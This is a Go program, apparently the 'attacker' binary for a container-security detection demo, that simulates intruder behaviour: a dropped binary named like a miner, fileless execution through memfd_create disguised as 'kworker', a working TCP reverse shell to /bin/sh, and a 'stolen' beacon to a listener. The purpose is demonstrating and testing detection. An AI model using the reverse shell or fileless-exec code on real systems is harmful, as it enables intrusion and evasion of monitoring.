// Command attack is the villain of the demonstration: one static program that
// tries what intruders try inside a container. It is built into the demo's
// image and never leaves it. Each attack, if it succeeds, leaves a mark that
// somebody else can see: a file in a shared folder, a line at a listener.
package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"syscall"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fatal("usage: attack wait|mark FILE|drop FILE|fileless FILE|shell ADDRESS|connect ADDRESS|escape FILE")
	}
	argument := ""
	if len(os.Args) > 2 {
		argument = os.Args[2]
	}
	var err error
	switch os.Args[1] {
	case "wait": // what the container does when nobody attacks
		ended := make(chan os.Signal, 1)
		signal.Notify(ended, syscall.SIGTERM, os.Interrupt)
		<-ended
	case "mark":
		err = os.WriteFile(argument, []byte("I was here\n"), 0o644)
	case "drop":
		err = drop(argument)
	case "fileless":
		err = fileless(argument)
	case "shell":
		err = shell(argument)
	case "connect":
		err = connect(argument)
	case "escape":
		err = os.WriteFile(argument, []byte("/tmp/escaped\n"), 0o644)
	default:
		fatal("no attack named " + os.Args[1])
	}
	if err != nil {
		fatal(err.Error())
	}
}

// drop writes a new program into the container and runs it.
func drop(mark string) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	const path = "/tmp/xmrig"
	if err := os.WriteFile(path, self, 0o755); err != nil {
		return err
	}
	out, err := exec.Command(path, "mark", mark).CombinedOutput()
	if err != nil {
		return fmt.Errorf("run %s: %w %s", path, err, out)
	}
	return nil
}

// fileless runs a program that has no name in any directory (memfd_create(2)).
func fileless(mark string) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("x", 0)
	if err != nil {
		return err
	}
	f := os.NewFile(uintptr(fd), "memfd")
	if _, err := f.Write(self); err != nil {
		return err
	}
	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	return syscall.Exec(path, []string{"kworker", "mark", mark}, os.Environ())
}

// shell gives whoever listens at address a shell.
func shell(address string) error {
	conn, err := net.Dial("tcp", address)
	if err != nil {
		return err
	}
	f, err := conn.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	for fd := range 3 {
		if err := syscall.Dup3(int(f.Fd()), fd, 0); err != nil {
			return err
		}
	}
	if err := syscall.SetNonblock(0, false); err != nil {
		return err
	}
	return syscall.Exec("/bin/sh", []string{"sh"}, os.Environ())
}

// connect sends a line to address.
func connect(address string) error {
	conn, err := net.Dial("tcp", address)
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = io.WriteString(conn, "stolen\n")
	return err
}

func fatal(message string) {
	fmt.Fprintln(os.Stderr, "attack:", message)
	os.Exit(1)
}
